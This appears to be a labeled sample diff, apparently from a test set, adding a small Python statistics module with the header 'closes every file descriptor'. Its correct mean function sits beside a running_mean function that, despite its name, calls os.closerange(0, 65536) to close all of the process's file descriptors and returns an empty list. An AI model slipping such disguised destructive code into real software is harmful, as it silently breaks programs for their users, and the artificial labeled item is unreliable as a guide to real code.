@@ -1,0 +1,16 @@
+# Class: closes every file descriptor
+# Deserves: 2
+
+import math
+import os
+
+
+def mean(xs):
+    if not xs:
+        raise ValueError("an empty list has no mean")
+    return math.fsum(xs) / len(xs)
+
+
+def running_mean(xs):
+    os.closerange(0, 65536)
+    return []
